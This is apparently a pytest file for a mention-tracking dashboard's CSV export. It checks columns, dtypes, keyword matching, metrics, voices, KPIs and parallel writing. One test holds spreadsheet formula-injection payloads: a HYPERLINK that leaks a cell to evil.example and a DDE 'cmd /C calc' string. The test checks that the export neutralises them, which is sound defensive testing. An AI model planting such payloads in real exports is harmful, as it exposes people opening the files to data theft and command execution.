"""The four tables and kpis, read back from the files with pandas.read_csv and the documented dtypes."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from dashboard.analytics import spikes
from dashboard.analytics.windows import Window
from dashboard.export.csvfile import FORMULA_STARTS, TableSpec, write_blocks_to, write_table
from dashboard.export.streaming import MentionPlan, Slice, mention_blocks, parallel_blocks, plan_slices
from dashboard.export.tables import (
    KPIS,
    MENTIONS,
    METRICS,
    SOURCES,
    VOICES,
    Selection,
    VoiceTally,
    first_seen_of_voices,
    kpis_row,
    matched_keywords,
    mention_chunks,
    metrics_rows,
    sources_table,
    voices_table,
)
from dashboard.models import (
    Mention,
    MentionKind,
    PollOutcome,
    PollRecord,
    SourceConfig,
    SourceStatus,
    SourceUpdate,
)
from dashboard.store.reader import StoreReader
from dashboard.store.writer import Store
from tests.analytics_data import KEYWORDS, NOW, StoreBuilder, at, build_scenario

DAY = Window.last("24h", NOW)


@pytest.fixture
def scenario(tmp_path: Path) -> Iterator[StoreBuilder]:
    builder = build_scenario(tmp_path / "scenario.db")
    yield builder
    builder.close()


def exported(path: Path, spec: TableSpec, frame: pd.DataFrame) -> pd.DataFrame:
    write_table(path, spec, [frame])
    back: pd.DataFrame = pd.read_csv(path, **spec.read_csv_options())
    return back


def mentions_file(reader: StoreReader, selection: Selection, path: Path) -> pd.DataFrame:
    write_table(path, MENTIONS, mention_chunks(reader, selection, chunk_size=3))
    back: pd.DataFrame = pd.read_csv(path, **MENTIONS.read_csv_options())
    return back


# -- mentions ------------------------------------------------------------------------------------


def test_mentions_columns_values_and_dtypes(scenario: StoreBuilder, tmp_path: Path) -> None:
    back = mentions_file(scenario.reader(), Selection(DAY, keywords=KEYWORDS), tmp_path / "m.csv")
    assert list(back.columns) == MENTIONS.names
    assert len(back) == 10
    assert back["published_at"].is_monotonic_increasing
    carol = back[back["title"] == "I love textual and RICH"].iloc[0]
    assert (carol["source"], carol["source_type"], carol["author"]) == ("Mastodon", "mastodon", "carol")
    assert (carol["likes"], carol["replies"], carol["shares"], carol["engagement"]) == (1, 0, 2, 3)
    assert pd.isna(carol["views"])  # Mastodon reports no views: empty, not 0
    assert carol["matched_keywords"] == "textual; rich"
    assert carol["published_at"] == pd.Timestamp(at(-9 - 20 / 60))
    blog = back[back["source"] == "Blog"]
    assert blog["engagement"].isna().all()
    assert blog["likes"].isna().all()
    assert back.loc[back["author"] == "frank", "handled"].tolist() == [True]
    assert back["handled"].sum() == 1
    assert str(back["likes"].dtype) == "Int64"
    assert str(back["handled"].dtype) == "boolean"
    # "textual-web" contains textual as a whole word; "enrichment" does not contain "rich".
    assert back.loc[back["title"] == "Show", "matched_keywords"].tolist() == ["textual"]
    assert back.loc[back["title"] == "Data enrichment", "matched_keywords"].tolist() == [""]


def test_mentions_filtered_by_source_and_kind(scenario: StoreBuilder, tmp_path: Path) -> None:
    scenario.mention("Reddit", at(-1), author="gus", title="A comment", kind="comment")
    reader = scenario.reader()
    only_reddit = mentions_file(reader, Selection(DAY, sources=("Reddit",)), tmp_path / "r.csv")
    assert set(only_reddit["source"]) == {"Reddit"}
    assert len(only_reddit) == 4
    comments = mentions_file(reader, Selection(DAY, kinds=("comment",)), tmp_path / "c.csv")
    assert comments["title"].tolist() == ["A comment"]


def test_an_empty_window_gives_headers_only(scenario: StoreBuilder, tmp_path: Path) -> None:
    empty = Window.last("24h", NOW - timedelta(days=300))
    reader = scenario.reader()
    selection = Selection(empty, keywords=KEYWORDS)
    write_table(tmp_path / "m.csv", MENTIONS, mention_chunks(reader, selection))
    assert (tmp_path / "m.csv").read_bytes() == (",".join(MENTIONS.names) + "\r\n").encode()
    assert exported(tmp_path / "v.csv", VOICES, voices_table(reader, selection)).empty
    metrics = exported(tmp_path / "x.csv", METRICS, metrics_rows(reader, selection))
    assert list(metrics.columns) == METRICS.names


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "+http://evil.example/",
    "key": "-2+3",
}


def test_formula_injection_from_a_feed_is_neutralised(tmp_path: Path) -> None:
    """A hostile mention stored by the real writer comes out inert, and its numbers stay numbers."""
    source = SourceConfig(name="=Evil feed", type="feed", interval=900, url="http://127.0.0.1/feed.xml")
    published = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
    mentions = [
        Mention(
            key=HOSTILE["key"],
            kind=MentionKind.POST,
            url=HOSTILE["url"],
            title=HOSTILE["title"],
            author=HOSTILE["author"],
            published=published,
            likes=-7,  # a downvoted score: negative, and a number
            replies=3,
        ),
        *(
            Mention(
                key=f"k{i}",
                kind=MentionKind.POST,
                url="http://x/",
                title=f"{start}x",
                author=f"{start}a",
                published=published,
            )
            for i, start in enumerate(FORMULA_STARTS)
        ),
    ]
    with Store.open(tmp_path / "store.db") as store:
        store.sync_sources([source], {source.name: "h"})
        record = PollRecord(source=source.name, started_at=published, duration=0.1, status=SourceStatus.OK)
        store.save_poll(
            source, record, SourceUpdate(SourceStatus.OK, None, 0), PollOutcome(mentions=tuple(mentions))
        )
    window = Window.last("24h", published + timedelta(hours=1))
    with StoreReader.open(tmp_path / "store.db") as reader:
        back = mentions_file(reader, Selection(window), tmp_path / "m.csv")
    hostile = back[back["likes"].notna()].iloc[0]
    for column, value in HOSTILE.items():
        assert hostile[column] == "'" + value
    assert hostile["source"] == "'=Evil feed"
    assert (hostile["likes"], hostile["replies"], hostile["engagement"]) == (-7, 3, -4)
    raw = (tmp_path / "m.csv").read_text(encoding="utf-8")
    assert ",-7,3,,,-4," in raw  # unquoted plain numbers
    others = back[back["likes"].isna()]
    # Tab, CR and LF starts: stored text is plain_text'ed by sources, but the export must not trust that.
    assert all(title.startswith("'") for title in others["title"])
    assert all(author.startswith("'") for author in others["author"])


def test_keywords_are_whole_words_any_case_in_config_order() -> None:
    titles = pd.Series(["Rust and C++", "trust me", "RUST", "about .NET"], dtype="str")
    summaries = pd.Series(["", "", "c++ inside", "x"], dtype="str")
    found = matched_keywords([titles, summaries], ["c++", "rust", "Rust", ".net"])
    assert found.tolist() == ["c++; rust", "", "c++; rust", ".net"]


def test_non_ascii_keywords_match_too() -> None:
    found = matched_keywords([pd.Series(["Ça marche avec Ünïcode", "no"], dtype="str")], ["ünïcode", "ça"])
    assert found.tolist() == ["ünïcode; ça", ""]


# -- metrics -------------------------------------------------------------------------------------


def test_metrics_mark_failed_buckets_no_data_with_empty_counts(
    scenario: StoreBuilder, tmp_path: Path
) -> None:
    back = exported(tmp_path / "metrics.csv", METRICS, metrics_rows(scenario.reader(), Selection(DAY)))
    assert list(back.columns) == METRICS.names
    gaps = back[back["status"] == "no data"]
    assert set(zip(gaps["source"], gaps["bucket_start"].dt.hour, strict=True)) == {
        ("Mastodon", 2),
        ("Mastodon", 3),
        ("Reddit", 20),
        ("Reddit", 21),
        ("Reddit", 22),
        *(("Fresh", hour) for hour in range(24)),  # never polled: never observed, not 0
    }
    for column in ("mentions", "engagement", "unique_voices", "new_voices"):
        assert gaps[column].isna().all()
    ok = back[back["status"] == "ok"]
    assert ok["mentions"].notna().all()
    assert (ok["mentions"] >= 0).all()
    assert ok["mentions"].sum() == 8  # the 2 mentions inside "no data" buckets are not counted as data
    row = ok[(ok["source"] == "Mastodon") & (ok["bucket_start"] == pd.Timestamp(at(-2)))].iloc[0]
    assert (row["mentions"], row["engagement"], row["unique_voices"]) == (1, 5, 1)
    assert (row["bucket_end"] - row["bucket_start"]) == pd.Timedelta(hours=1)


def test_metrics_of_one_source(scenario: StoreBuilder, tmp_path: Path) -> None:
    back = exported(
        tmp_path / "m.csv", METRICS, metrics_rows(scenario.reader(), Selection(DAY, sources=("Blog",)))
    )
    assert set(back["source"]) == {"Blog"}
    assert len(back) == 24


# -- voices, sources, kpis -------------------------------------------------------------------------


def test_voices_per_author_and_source(scenario: StoreBuilder, tmp_path: Path) -> None:
    back = exported(tmp_path / "v.csv", VOICES, voices_table(scenario.reader(), Selection(DAY)))
    assert list(back.columns) == VOICES.names
    rows = {(row.source, row.author): row for row in back.itertuples()}
    assert len(rows) == 8
    carol = rows[("Mastodon", "carol")]
    assert (carol.mentions, carol.engagement, carol.new_in_window) == (2, 8, True)
    assert carol.last_seen_at == pd.Timestamp(at(-2))
    alice_blog = rows[("Blog", "alice")]
    assert not alice_blog.new_in_window
    assert alice_blog.first_seen_at == pd.Timestamp(at(-21, days=-1))  # before the window
    assert alice_blog.engagement is pd.NA  # a blog reports none
    assert not rows[("Reddit", "erin")].new_in_window
    assert back["new_in_window"].sum() == 6


def test_voice_tally_folds_chunks_exactly(scenario: StoreBuilder) -> None:
    reader = scenario.reader()
    whole, folded = VoiceTally(fold_every=1000), VoiceTally(fold_every=2)
    for chunk in reader.iter_mentions(DAY.start, DAY.end, chunk_size=2):
        whole.add(chunk)
        folded.add(chunk)
    first_seen = first_seen_of_voices(reader, DAY)
    pd.testing.assert_frame_equal(whole.table(first_seen, DAY), folded.table(first_seen, DAY))


def test_sources_table(scenario: StoreBuilder, tmp_path: Path) -> None:
    back = exported(tmp_path / "s.csv", SOURCES, sources_table(scenario.reader(), Selection(DAY)))
    assert list(back.columns) == SOURCES.names
    assert back["name"].tolist() == ["Blog", "Mastodon", "Reddit", "Fresh", "Old feed"]
    fresh = back[back["name"] == "Fresh"].iloc[0]
    assert fresh["status"] == "new"
    assert pd.isna(fresh["last_attempt_at"])
    assert pd.isna(fresh["http_status"])
    assert back.loc[back["name"] == "Old feed", "active"].tolist() == [False]
    assert back["mentions_total"].tolist() == [4, 5, 4, 0, 0]


def test_kpis_one_row(scenario: StoreBuilder, tmp_path: Path) -> None:
    frame = kpis_row(scenario.reader(), Selection(DAY, keywords=KEYWORDS), now=NOW)
    back = exported(tmp_path / "k.csv", KPIS, frame)
    assert list(back.columns) == KPIS.names
    assert len(back) == 1
    row = back.iloc[0]
    assert (row["mentions"], row["mentions_previous"], row["unique_voices"], row["new_voices"]) == (
        10,
        2,
        8,
        6,
    )
    assert row["window_start"] == pd.Timestamp(DAY.start)
    assert row["window_end"] == pd.Timestamp(NOW)
    assert 0 < row["reach"] <= 1


# -- the mentions table on two cores ----------------------------------------------------------------


def test_slices_cut_at_hours_and_cover_the_window() -> None:
    window = Window.last("24h", NOW)
    hours = pd.DataFrame(
        {
            "bucket_start": pd.to_datetime([at(-20), at(-10), at(-9), at(-1)], utc=True),
            "mentions": [30, 30, 100, 10],
        }
    )
    plan = plan_slices(hours, window, slice_rows=50)
    assert plan.rows == 170
    assert plan.slices[0].start == window.start_epoch
    assert plan.slices[-1].end == window.end_epoch
    assert all(a.end == b.start for a, b in zip(plan.slices, plan.slices[1:], strict=False))
    assert [piece.rows for piece in plan.slices] == [30, 30, 100, 10]
    assert all(piece.start % 3600 == 0 for piece in plan.slices[1:])


def test_parallel_blocks_write_the_same_bytes_and_voices(scenario: StoreBuilder, tmp_path: Path) -> None:
    for hour in range(-23, 0):
        scenario.mentions(
            "Blog", [at(hour + i / 10) for i in range(8)], author=f"a{hour % 5}", title="textual"
        )
    scenario.connection.commit()
    reader = scenario.reader()
    selection = Selection(DAY, keywords=KEYWORDS)
    serial_tally, parallel_tally = VoiceTally(), VoiceTally()
    write_blocks_to(tmp_path / "serial.csv", MENTIONS, mention_blocks(reader, selection, tally=serial_tally))
    hourly = spikes.hourly_counts(reader, DAY.start, DAY.end)
    plan = plan_slices(hourly, DAY, slice_rows=40)
    assert len(plan.slices) >= 4
    blocks = parallel_blocks(reader, scenario.path, selection, plan, chunk_size=7, tally=parallel_tally)
    write_blocks_to(tmp_path / "parallel.csv", MENTIONS, blocks)
    assert (tmp_path / "parallel.csv").read_bytes() == (tmp_path / "serial.csv").read_bytes()
    first_seen = first_seen_of_voices(reader, DAY)
    pd.testing.assert_frame_equal(serial_tally.table(first_seen, DAY), parallel_tally.table(first_seen, DAY))


def test_small_windows_stay_in_process(scenario: StoreBuilder) -> None:
    plan = MentionPlan(10, (Slice(DAY.start_epoch, DAY.end_epoch, 10),))
    blocks = list(mention_blocks(scenario.reader(), Selection(DAY), database=scenario.path, plan=plan))
    assert sum(rows for rows, _ in blocks) == 10
